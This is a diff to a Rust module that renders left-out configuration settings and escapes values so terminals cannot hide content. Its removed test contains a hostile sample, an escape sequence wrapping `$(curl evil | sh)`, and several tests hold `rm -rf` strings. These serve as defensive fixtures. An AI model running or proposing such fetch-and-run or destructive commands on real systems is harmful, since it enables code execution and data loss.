@@ -5,38 +5,15 @@ use std::fmt::Write as _;
 use ralph_run::{Redactor, secrets_among};
 
 use super::filter::LeftOut;
-use crate::console::is_forbidden;
+use super::rule::Risk;
+use crate::console::visible;
 
-/// A value that is longer is cut.
-const MAX_CHARACTERS: usize = 2_000;
-/// How much of the end of a cut value is shown.
-const END_CHARACTERS: usize = 500;
 /// A file with more settings is cut.
 const MAX_LINES: usize = 200;
 
-/// A value on one line, as safe text. Nothing of it is dropped in silence: what a terminal must not see, such as an escape
-/// sequence with a command in it, is shown as `\u{1b}`, and a long value says how much of it is missing.
+/// A value on one line, as safe text in which nothing is hidden.
 pub fn show(value: &str) -> String {
-    let mut shown = String::with_capacity(value.len());
-    for character in value.chars() {
-        match character {
-            '\n' => shown.push_str("\\n"),
-            '\t' => shown.push_str("\\t"),
-            '\r' => shown.push_str("\\r"),
-            _ if is_forbidden(character) => shown.extend(character.escape_unicode()),
-            _ => shown.push(character),
-        }
-    }
-    let length = shown.chars().count();
-    if length <= MAX_CHARACTERS {
-        return shown;
-    }
-    let begin: String = shown.chars().take(MAX_CHARACTERS - END_CHARACTERS).collect();
-    let end: String = shown.chars().skip(length - END_CHARACTERS).collect();
-    format!(
-        "{begin} … [{} characters are not shown] … {end}",
-        length - MAX_CHARACTERS
-    )
+    visible(value).replace('\n', "\\n").replace('\t', "\\t")
 }
 
 /// The value of an environment variable, without secrets.
@@ -50,17 +27,19 @@ pub(super) fn show_variable(name: &str, value: &str) -> String {
     }
 }
 
-/// One line for each setting, indented: key, value, and what it does.
+/// One line for each setting, indented: key, value, and what it does. Programs come first and are all shown.
 pub fn render_left_out(left_out: &[LeftOut]) -> String {
+    let (programs, others): (Vec<_>, Vec<_>) = left_out.iter().partition(|item| item.why == Risk::Executes);
+    let shown_others = MAX_LINES.saturating_sub(programs.len());
     let mut text = String::new();
-    for LeftOut { key, value, why } in left_out.iter().take(MAX_LINES) {
+    for LeftOut { key, value, why } in programs.iter().chain(others.iter().take(shown_others)) {
         let _ = writeln!(text, "  {}: {value}  ({})", show(key), why.explain());
     }
-    if left_out.len() > MAX_LINES {
+    if others.len() > shown_others {
         let _ = writeln!(
             text,
-            "  and {} more: look at the file",
-            left_out.len() - MAX_LINES
+            "  and {} more that run no program: see the file",
+            others.len() - shown_others
         );
     }
     text
@@ -68,30 +47,12 @@ pub fn render_left_out(left_out: &[LeftOut]) -> String {
 
 #[cfg(test)]
 mod tests {
-    use super::{MAX_CHARACTERS, render_left_out, show, show_variable};
-    use crate::console::is_forbidden;
+    use super::{render_left_out, show, show_variable};
     use crate::trust::{LeftOut, Risk};
 
     #[test]
-    fn what_a_terminal_would_swallow_is_shown() {
-        let hidden = "true \u{1b}]0;$(curl evil | sh)\u{7} \u{202e}\u{200b}\r\nrm";
-        assert_eq!(
-            show(hidden),
-            "true \\u{1b}]0;$(curl evil | sh)\\u{7} \\u{202e}\\u{200b}\\r\\nrm"
-        );
-        assert_eq!(show(&show(hidden)).chars().find(|it| is_forbidden(*it)), None);
-    }
-
-    #[test]
-    fn a_long_value_shows_its_end_and_says_how_much_is_missing() {
-        let value = format!("echo {}; rm -rf x", " ".repeat(10_000));
-        let shown = show(&value);
-        assert!(shown.ends_with("; rm -rf x"), "{shown}");
-        let missing = value.chars().count() - MAX_CHARACTERS;
-        assert!(
-            shown.contains(&format!("[{missing} characters are not shown]")),
-            "{shown}"
-        );
+    fn a_value_is_one_line_with_nothing_hidden() {
+        assert_eq!(show("true \u{1b}[8m\r\nrm\t-rf"), "true \\u{1b}[8m\\r\\nrm\\t-rf");
     }
 
     #[test]
@@ -109,14 +70,22 @@ mod tests {
     }
 
     #[test]
-    fn a_very_long_list_is_cut() {
-        let item = LeftOut {
-            key: "verify".to_owned(),
-            value: "true".to_owned(),
-            why: Risk::Executes,
+    fn a_very_long_list_shows_every_program_first() {
+        let item = |key: &str, why| LeftOut {
+            key: key.to_owned(),
+            value: "x".to_owned(),
+            why,
         };
-        let text = render_left_out(&vec![item; 250]);
+        let mut items = vec![item("cli.env.A", Risk::Redirects); 250];
+        items.push(item("verify", Risk::Executes));
+        let text = render_left_out(&items);
+        assert!(text.starts_with("  verify: x"), "{text}");
         assert_eq!(text.lines().count(), 201);
-        assert!(text.ends_with("  and 50 more: look at the file\n"), "{text}");
+        assert!(
+            text.ends_with("  and 51 more that run no program: see the file\n"),
+            "{text}"
+        );
+        let programs = vec![item("verify", Risk::Executes); 250];
+        assert_eq!(render_left_out(&programs).lines().count(), 250);
     }
 }
